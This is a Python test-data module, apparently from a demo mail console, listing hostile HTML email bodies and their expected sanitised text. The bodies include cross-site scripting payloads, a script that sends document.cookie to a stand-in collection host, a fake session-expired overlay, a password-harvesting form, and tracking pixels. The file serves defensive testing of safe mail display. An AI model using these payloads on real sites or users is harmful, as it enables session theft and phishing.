# ruff: noqa: E501 (tables of prose: a sentence stays on its line)
"""Messages as attackers send them, so that every safe way of showing mail is exercised by everyday use of the demo.

They are data: the server stores and returns them unaltered, and the console has to show them without harm.
"""

HOSTILE = (
    '<p>Please see the order below.</p><script>document.title="owned";fetch("https://collect.example/?c="+document.cookie)</script>',
    '<p>Our logo does not load:</p><img src="https://nowhere.example/x.png" onerror="alert(document.domain)" width="40">',
    '<p>Tracking: <a href="javascript:alert(1)">open the parcel status</a> or <a href=" java&#x09;script:alert(2)">here</a>.</p>',
    '<p>Hello, any news?</p><img src="https://track.example/open.gif?u=agent&amp;t=184" width="1" height="1" alt="">'
    '<div style="background:url(https://track.example/bg.png)">&nbsp;</div>',
    '<div style="position:fixed;top:0;left:0;right:0;bottom:0;z-index:2147483647;background:#fff"><h1>Session expired</h1>'
    '<p><a href="https://sign-in.example/console">Sign in again</a></p></div><p>Unrelated: is the import done?</p>',
    "<p>Numbers as asked:</p>" + "<table><tr><td>" * 120 + "42" + "</td></tr></table>" * 120,
    '<form action="https://harvest.example/login" method="post"><p>Your mailbox is full. Confirm your password:</p>'
    '<input name="user"><input name="password" type="password"><button>Confirm</button></form>',
    '<p>Preview of the banner:</p><iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>'
    '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">banner</a>',
    '<p>Icon attached inline.</p><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" width="20" height="20">'
    '<script>alert(2)</script><a href="javascript:alert(3)"><circle r="8" cx="10" cy="10"/></a></svg>',
    '<meta http-equiv="refresh" content="0;url=https://elsewhere.example/"><base href="https://elsewhere.example/">'
    '<p>Following up on the <a href="/invoice">invoice</a>.</p>',
    '<style>*{display:none!important}@import url("https://track.example/a.css");</style><p>Why is my text invisible to some?</p>',
    '<p>Link to the bank: <a href="https://bank.example.evil-login.example/">https://www.bank.example/</a></p>'
    '<object data="https://nowhere.example/a.swf"></object><embed src="file:///etc/hostname">',
)
HOSTILE_BODIES = (
    "Please see the order below.",
    "Our logo does not load:",
    "Tracking: open the parcel status or here.",
    "Hello, any news?",
    "Session expired. Sign in again. Unrelated: is the import done?",
    "Numbers as asked: 42",
    "Your mailbox is full. Confirm your password:",
    "Preview of the banner: banner",
    "Icon attached inline.",
    "Following up on the invoice.",
    "Why is my text invisible to some?",
    "Link to the bank: https://www.bank.example/",
)
